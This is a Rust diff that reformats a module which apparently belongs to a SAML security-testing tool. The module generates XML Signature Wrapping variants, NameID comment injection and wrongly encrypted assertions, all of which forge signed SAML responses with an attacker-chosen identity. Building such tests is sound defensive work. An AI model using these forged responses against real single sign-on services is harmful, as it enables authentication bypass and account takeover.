@@ -35,7 +35,10 @@ impl Xsw {
 }
 
 fn shape(detail: &str) -> SamlError {
-    SamlError::Structure { expected: "Response signed by ssoproof-saml", detail: detail.into() }
+    SamlError::Structure {
+        expected: "Response signed by ssoproof-saml",
+        detail: detail.into(),
+    }
 }
 
 /// `(start, end)` of the first `<open…>…</close>` in `xml` at or after `from`.
@@ -56,12 +59,26 @@ fn evil_copy(assertion: &str, name_id: &str, id: Option<&str>) -> Result<String,
     if let Some((start, end)) = span(&evil, "<ds:Signature", "</ds:Signature>", 0) {
         evil.replace_range(start..end, "");
     }
-    let id_start = evil.find(" ID=\"").ok_or_else(|| shape("the assertion has no ID"))? + 5;
-    let id_end = evil[id_start..].find('"').ok_or_else(|| shape("unterminated ID"))? + id_start;
+    let id_start = evil
+        .find(" ID=\"")
+        .ok_or_else(|| shape("the assertion has no ID"))?
+        + 5;
+    let id_end = evil[id_start..]
+        .find('"')
+        .ok_or_else(|| shape("unterminated ID"))?
+        + id_start;
     evil.replace_range(id_start..id_end, id.unwrap_or(&new_id()));
-    let (start, end) = span(&evil, "<saml:NameID", "</saml:NameID>", 0).ok_or_else(|| shape("no saml:NameID"))?;
-    let open_end = evil[start..end].find('>').ok_or_else(|| shape("broken saml:NameID"))? + start + 1;
-    evil.replace_range(open_end..end - "</saml:NameID>".len(), &crate::xml::escape(name_id));
+    let (start, end) =
+        span(&evil, "<saml:NameID", "</saml:NameID>", 0).ok_or_else(|| shape("no saml:NameID"))?;
+    let open_end = evil[start..end]
+        .find('>')
+        .ok_or_else(|| shape("broken saml:NameID"))?
+        + start
+        + 1;
+    evil.replace_range(
+        open_end..end - "</saml:NameID>".len(),
+        &crate::xml::escape(name_id),
+    );
     Ok(evil)
 }
 
@@ -83,7 +100,10 @@ pub fn wrap(signed_response: &str, variant: Xsw, evil_name_id: &str) -> Result<S
     };
     let replacement = match variant {
         Xsw::EvilBefore => format!("{}{original}", evil_copy(original, evil_name_id, None)?),
-        Xsw::SameIdBefore => format!("{}{original}", evil_copy(original, evil_name_id, Some(&original_id))?),
+        Xsw::SameIdBefore => format!(
+            "{}{original}",
+            evil_copy(original, evil_name_id, Some(&original_id))?
+        ),
         Xsw::OriginalInsideEvil => {
             let evil = evil_copy(original, evil_name_id, None)?;
             let close = evil.len() - "</saml:Assertion>".len();
@@ -92,7 +112,9 @@ pub fn wrap(signed_response: &str, variant: Xsw, evil_name_id: &str) -> Result<S
         Xsw::OriginalInExtensions => evil_copy(original, evil_name_id, None)?,
         Xsw::OriginalInSignatureObject => {
             let evil = evil_copy(original, evil_name_id, None)?;
-            let issuer_end = evil.find("</saml:Issuer>").ok_or_else(|| shape("no saml:Issuer"))?
+            let issuer_end = evil
+                .find("</saml:Issuer>")
+                .ok_or_else(|| shape("no saml:Issuer"))?
                 + "</saml:Issuer>".len();
             format!(
                 "{}<ds:Signature xmlns:ds=\"{}\"><ds:Object>{original}</ds:Object></ds:Signature>{}",
@@ -106,12 +128,17 @@ pub fn wrap(signed_response: &str, variant: Xsw, evil_name_id: &str) -> Result<S
     wrapped.replace_range(start..end, &replacement);
     if variant == Xsw::OriginalInExtensions {
         // Extensions comes right after the Response's Issuer (and its signature, if any).
-        let issuer_end = wrapped.find("</saml:Issuer>").ok_or_else(|| shape("no saml:Issuer"))?
+        let issuer_end = wrapped
+            .find("</saml:Issuer>")
+            .ok_or_else(|| shape("no saml:Issuer"))?
             + "</saml:Issuer>".len();
         let after_signature = span(&wrapped, "<ds:Signature", "</ds:Signature>", issuer_end)
             .filter(|(s, _)| *s == issuer_end)
             .map_or(issuer_end, |(_, e)| e);
-        wrapped.insert_str(after_signature, &format!("<samlp:Extensions>{original}</samlp:Extensions>"));
+        wrapped.insert_str(
+            after_signature,
+            &format!("<samlp:Extensions>{original}</samlp:Extensions>"),
+        );
     }
     Ok(wrapped)
 }
@@ -126,12 +153,17 @@ pub fn wrap(signed_response: &str, variant: Xsw, evil_name_id: &str) -> Result<S
 pub fn comment_in_name_id(signed_response: &str) -> Result<String, SamlError> {
     let (start, end) = span(signed_response, "<saml:NameID", "</saml:NameID>", 0)
         .ok_or_else(|| shape("no saml:NameID"))?;
-    let text_start = signed_response[start..end].find('>').ok_or_else(|| shape("broken saml:NameID"))? + start + 1;
+    let text_start = signed_response[start..end]
+        .find('>')
+        .ok_or_else(|| shape("broken saml:NameID"))?
+        + start
+        + 1;
     let text = &signed_response[text_start..end - "</saml:NameID>".len()];
     let at = match text.rfind('.') {
         Some(dot) => dot,
         // Mid-way, on a character boundary.
-        None => (1..text.len()).find(|i| *i >= text.len() / 2 && text.is_char_boundary(*i))
+        None => (1..text.len())
+            .find(|i| *i >= text.len() / 2 && text.is_char_boundary(*i))
             .ok_or_else(|| shape("the NameID is too short to split"))?,
     };
     let mut commented = signed_response.to_owned();
@@ -175,5 +207,8 @@ pub fn encrypted_for_another_key(
 }
 
 fn random_bytes(count: usize) -> Vec<u8> {
-    std::iter::repeat_with(|| *uuid::Uuid::new_v4().as_bytes()).flatten().take(count).collect()
+    std::iter::repeat_with(|| *uuid::Uuid::new_v4().as_bytes())
+        .flatten()
+        .take(count)
+        .collect()
 }
